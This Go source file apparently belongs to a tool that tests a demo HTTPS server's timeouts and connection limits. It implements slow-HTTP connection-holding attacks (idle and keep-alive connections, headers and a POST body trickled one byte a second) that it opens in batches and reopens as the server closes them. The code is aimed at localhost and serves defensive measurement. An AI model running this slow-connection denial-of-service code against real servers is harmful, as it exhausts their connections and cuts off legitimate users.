package main

import (
	"context"
	"crypto/tls"
	"io"
	"net"
	"time"
)

// Attacks on the HTTPS port with clients that hold connections: the demo's
// server bounds how long each may be held (ReadHeaderTimeout 5 s,
// ReadTimeout and WriteTimeout 10 s, IdleTimeout 30 s) and how many it
// serves at once (1,000; more wait in the kernel's backlog).

// serverName is the name the attacks and probes ask the demo for: its
// certificate's.
const serverName = "localhost"

// httpMode is what each connection of an HTTPS attack does.
type httpMode int

const (
	idleConn    httpMode = iota // one GET, then idle until the server closes it (IdleTimeout)
	keepAlive                   // a GET every 10 s: a client the idle timeout never cuts
	slowHeaders                 // a request's headers, one byte a second, never finished
	slowBody                    // a POST announcing 100,000 bytes, sent one a second
)

// rampUp is how many connections an attack opens at once: more would
// overflow the listen backlog and measure SYN retries instead.
const rampUp = 100

// dialTLS connects to addr from the next source and completes a TLS
// handshake offering the protocols alpn.
func dialTLS(ctx context.Context, from *sources, addr string, alpn ...string) (*tls.Conn, error) {
	raw, err := from.dial(ctx, addr)
	if err != nil {
		return nil, err
	}
	c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, ServerName: serverName, NextProtos: alpn})
	hctx, cancel := context.WithTimeout(ctx, dialTimeout)
	defer cancel()
	if err := c.HandshakeContext(hctx); err != nil {
		raw.Close()
		return nil, err
	}
	return c, nil
}

// httpsHolders keeps conns HTTP/1.1 connections to addr open until ctx is
// done, each doing what mode says, and opens another when the server
// closes one.
func httpsHolders(ctx context.Context, addr string, from *sources, conns int, mode httpMode, t *tally) {
	ramp := make(chan struct{}, rampUp)
	workers(ctx, conns, func(ctx context.Context) {
		for ctx.Err() == nil {
			ramp <- struct{}{}
			c, err := dialTLS(ctx, from, addr, "http/1.1")
			<-ramp
			if err != nil {
				if ctx.Err() == nil {
					t.failed("connect", err)
					pause(ctx, 100*time.Millisecond)
				}
				continue
			}
			t.sent.Add(1)
			if holdHTTPS(ctx, c, mode) {
				t.cut.Add(1)
			}
		}
	})
}

// holdHTTPS does what mode says on c until the server closes it, and
// reports whether it did before ctx was done.
func holdHTTPS(ctx context.Context, c net.Conn, mode httpMode) (cut bool) {
	stop := closeWith(ctx, c)
	closed := make(chan struct{}) // the server closed c (or ctx did); responses are read and dropped
	go func() {
		io.Copy(io.Discard, c)
		close(closed)
	}()
	defer func() {
		c.Close()
		<-closed
		stop()
	}()
	var first string
	every := time.Second
	switch mode {
	case idleConn, keepAlive:
		first = "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"
		every = 10 * time.Second
	case slowHeaders:
		first = "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
	case slowBody:
		first = "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/octet-stream\r\nContent-Length: 100000\r\n\r\n"
	}
	if _, err := io.WriteString(c, first); err != nil {
		return ctx.Err() == nil
	}
	tick := time.NewTicker(every)
	defer tick.Stop()
	for {
		select {
		case <-closed:
			return ctx.Err() == nil
		case <-tick.C:
		}
		var err error
		switch mode {
		case keepAlive:
			_, err = io.WriteString(c, first)
		case slowHeaders, slowBody:
			_, err = c.Write([]byte{'a'})
		}
		if err != nil {
			return ctx.Err() == nil
		}
	}
}
